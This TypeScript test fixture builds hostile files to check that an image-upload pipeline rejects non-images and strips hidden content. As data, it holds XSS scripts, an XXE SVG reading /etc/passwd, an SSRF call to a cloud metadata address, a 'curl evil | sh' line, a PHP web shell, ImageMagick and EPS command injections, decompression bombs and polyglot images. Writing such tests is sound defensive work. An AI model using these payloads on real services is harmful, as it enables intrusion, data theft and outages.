import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** A file that somebody might send as a picture. */
export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** Text that must be in no stored picture. */
  secret?: string;
}

const text = (value: string) => Buffer.from(value, 'latin1');
const SCRIPT = '<script>alert(document.cookie)</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${SCRIPT}</svg>`;

const crcTable = Array.from({ length: 256 }, (_, n) =>
  Array.from({ length: 8 }).reduce<number>((c) => (c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1), n),
);
const crc32 = (data: Buffer): number =>
  (data.reduce((c, byte) => (crcTable[(c ^ byte) & 255] ?? 0) ^ (c >>> 8), 0xffffffff) ^
    0xffffffff) >>>
  0;

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(type), data]);
  const chunk = Buffer.alloc(body.length + 8);
  chunk.writeUInt32BE(data.length, 0);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), body.length + 4);
  return chunk;
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngHeader(width: number, height: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([8, 2, 0, 0, 0], 8);
  return pngChunk('IHDR', data);
}

/** A PNG that announces this size; its pixels are few bytes of zeros. */
const pngOf = (width: number, height: number, extra: Buffer[] = []): Buffer =>
  Buffer.concat([
    PNG_SIGNATURE,
    pngHeader(width, height),
    ...extra,
    pngChunk('IDAT', deflateSync(Buffer.alloc(4_000_000))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);

/** A JPEG whose frame header announces another size. */
function resizedJpeg(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]));
  copy.writeUInt16BE(height, frame + 5);
  copy.writeUInt16BE(width, frame + 7);
  return copy;
}

/** Puts a segment after the start marker of a JPEG. */
function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.set([0xff, marker], 0);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

function zipOf(name: string, content: Buffer): Buffer {
  const deflated = deflateRawSync(content);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(crc32(content), 14);
  head.writeUInt32LE(deflated.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, text(name), deflated]);
}

const riff = (kind: string, content: Buffer): Buffer => {
  const head = Buffer.alloc(12);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(content.length + 4, 4);
  head.write(kind, 8, 'latin1');
  return Buffer.concat([head, content]);
};

const noise = (length: number): Buffer =>
  Buffer.from(Array.from({ length }, (_, at) => (at * 7_919 + (at >> 3) * 104_729) & 255));

/** Pictures of real pixels, to hide things in. */
async function carriers() {
  const raw = { width: 64, height: 48, channels: 3 } as const;
  const picture = () => sharp(noise(64 * 48 * 3), { raw });
  const gps = { IFD0: { Make: 'SECRET-MAKER', Copyright: SCRIPT }, IFD3: gpsOfSeoul };
  return {
    jpeg: await picture().jpeg({ quality: 95 }).toBuffer(),
    png: await picture().png().toBuffer(),
    webp: await picture().webp().toBuffer(),
    gif: await picture().gif().toBuffer(),
    tiff: await picture().tiff().toBuffer(),
    avif: await picture().avif({ effort: 0 }).toBuffer(),
    withPlace: await picture().jpeg().withExif(gps).toBuffer(),
    webpWithPlace: await picture().webp().withExif(gps).toBuffer(),
    pngWithPlace: await picture().png().withExif(gps).toBuffer(),
    turned: await picture().jpeg().withMetadata({ orientation: 6 }).toBuffer(),
    withProfile: await picture().jpeg().withIccProfile('p3').toBuffer(),
    withXmp: await picture().jpeg().withXmp(`<x:xmpmeta>${SCRIPT}</x:xmpmeta>`).toBuffer(),
    animated: await sharp(
      await Promise.all(
        [1, 2, 3].map((n) =>
          picture()
            .tint({ r: n * 60, g: 9, b: 9 })
            .png()
            .toBuffer(),
        ),
      ),
      { join: { animated: true } },
    )
      .webp({ loop: 0 })
      .toBuffer(),
  };
}

const gpsOfSeoul = {
  GPSLatitudeRef: 'N',
  GPSLatitude: '37/1 33/1 0/1',
  GPSLongitudeRef: 'E',
  GPSLongitude: '126/1 58/1 0/1',
};

/** Files that are no picture of a kind that is taken, are broken, or are too large to decode. */
export async function refusedFiles(): Promise<HostileFile[]> {
  const { jpeg, png, webp, gif, tiff, avif } = await carriers();
  const files: Record<string, Buffer> = {
    'html as a picture': text(HTML),
    'html after blanks': text(`\n\n   ${HTML}`),
    'html with a byte order mark': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(HTML)]),
    'html in UTF-16': Buffer.from(`\ufeff${HTML}`, 'utf16le'),
    'a script': text('alert(1)//'),
    'svg with a script': text(SVG),
    'svg with a declaration': text(`<?xml version="1.0"?>${SVG}`),
    'svg that reads a file': text(
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ),
    'svg that calls a host': text(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/" width="9" height="9"/></svg>',
    ),
    'svg of endless entities': text(
      `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>`,
    ),
    'compressed svg': gzipSync(SVG),
    'a gif': gif,
    'a gif that is a script': Buffer.concat([text('GIF89a/*'), noise(40), text('*/=1;alert(1)//')]),
    'a gif that announces 65535 squared': Buffer.concat([
      text('GIF89a'),
      Buffer.from([255, 255, 255, 255, 0, 0, 0]),
    ]),
    'a tiff': tiff,
    'an avif': avif,
    'a heic': Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypheic'), noise(60)]),
    'a bmp': Buffer.concat([text('BM'), noise(90)]),
    'an icon': Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), noise(60)]),
    'a pdf': text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
    'a zip': zipOf('evil.html', text(HTML)),
    'a zip bomb': zipOf('zeros', Buffer.alloc(20_000_000)),
    'a gzip bomb': gzipSync(Buffer.alloc(20_000_000)),
    'a windows program': Buffer.concat([text('MZ'), noise(200)]),
    'a linux program': Buffer.concat([Buffer.from([0x7f]), text('ELF'), noise(200)]),
    'a shell script': text('#!/bin/sh\ncurl evil | sh\n'),
    'a php script': text('<?php system($_GET["c"]); ?>'),
    'a video': Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypmp42'), noise(60)]),
    'a flash file': Buffer.concat([text('FWS'), noise(60)]),
    'an eps': text('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file'),
    'an imagemagick script': text(
      'push graphic-context\nfill \'url(https://x/"|id")\'\npop graphic-context',
    ),
    'one byte': Buffer.from([0xff]),
    zeros: Buffer.alloc(5_000),
    noise: noise(5_000),
    'a jpeg signature only': Buffer.from([0xff, 0xd8, 0xff]),
    'a jpeg signature before html': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(HTML)]),
    'a jpeg signature before svg': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(SVG)]),
    'a png signature only': PNG_SIGNATURE,
    'a png signature before html': Buffer.concat([PNG_SIGNATURE, text(HTML)]),
    'a png signature before a gif': Buffer.concat([PNG_SIGNATURE, gif]),
    'a webp signature only': riff('WEBP', Buffer.alloc(0)),
    'a webp signature before html': riff('WEBP', text(HTML)),
    'a webp of another kind': riff('WAVE', noise(80)),
    'half a jpeg': jpeg.subarray(0, Math.floor(jpeg.length / 2)),
    'the first bytes of a jpeg': jpeg.subarray(0, 180),
    'half a png': png.subarray(0, Math.floor(png.length / 2)),
    'a png without pixels': Buffer.concat([
      PNG_SIGNATURE,
      pngHeader(9, 9),
      pngChunk('IEND', Buffer.alloc(0)),
    ]),
    'half a webp': webp.subarray(0, Math.floor(webp.length / 2)),
    'a png of 60000 squared': pngOf(60_000, 60_000),
    'a png of the largest sides': pngOf(2_147_483_647, 2_147_483_647),
    'a png of no width': pngOf(0, 500),
    'a png as a long thread': pngOf(900_000, 1),
    'a jpeg of 65500 squared': resizedJpeg(jpeg, 65_500, 65_500),
    'a jpeg of no height': resizedJpeg(jpeg, 100, 0),
    'a png whose pixels are html': Buffer.concat([
      PNG_SIGNATURE,
      pngHeader(9, 9),
      pngChunk('IDAT', text(HTML)),
      pngChunk('IEND', Buffer.alloc(0)),
    ]),
  };
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes }));
}

/** Real pictures that carry more than a picture: they are stored, without what they carry. */
export async function loadedPictures(): Promise<HostileFile[]> {
  const of = await carriers();
  const secret = 'alert(document.cookie)';
  const after = (bytes: Buffer, tail: Buffer) => Buffer.concat([bytes, tail]);
  return [
    { name: 'a jpeg before html', bytes: after(of.jpeg, text(HTML)), secret },
    {
      name: 'a jpeg before a zip',
      bytes: after(of.jpeg, zipOf('evil.html', text(HTML))),
      secret: 'evil.html',
    },
    {
      name: 'a jpeg before php',
      bytes: after(of.jpeg, text('<?php system(1) ?>')),
      secret: '<?php',
    },
    {
      name: 'a jpeg with html as a comment',
      bytes: withSegment(of.jpeg, 0xfe, text(HTML)),
      secret,
    },
    {
      name: 'a jpeg with a script in its app segment',
      bytes: withSegment(of.jpeg, 0xef, text(SCRIPT)),
      secret,
    },
    {
      name: 'a jpeg that is a script',
      bytes: withSegment(of.jpeg, 0xfe, text('*/=1;alert(document.cookie)/*')),
      secret,
    },
    { name: 'a jpeg with a place', bytes: of.withPlace, secret: 'SECRET-MAKER' },
    { name: 'a webp with a place', bytes: of.webpWithPlace, secret: 'SECRET-MAKER' },
    { name: 'a png with a place', bytes: of.pngWithPlace, secret: 'SECRET-MAKER' },
    { name: 'a jpeg with xmp', bytes: of.withXmp, secret },
    { name: 'a jpeg with a colour profile', bytes: of.withProfile },
    { name: 'a turned jpeg', bytes: of.turned },
    { name: 'a png before html', bytes: after(of.png, text(HTML)), secret },
    {
      name: 'a png with html as its title',
      bytes: Buffer.concat([
        of.png.subarray(0, 33),
        pngChunk('tEXt', text(`Title\0${HTML}`)),
        of.png.subarray(33),
      ]),
      secret,
    },
    {
      name: 'a png with 20 MB of compressed text',
      bytes: Buffer.concat([
        of.png.subarray(0, 33),
        pngChunk(
          'zTXt',
          Buffer.concat([text('Comment\0\0'), deflateSync(Buffer.alloc(20_000_000))]),
        ),
        of.png.subarray(33),
      ]),
    },
    { name: 'a webp before html', bytes: after(of.webp, text(HTML)), secret },
    { name: 'an animated webp', bytes: of.animated },
  ];
}
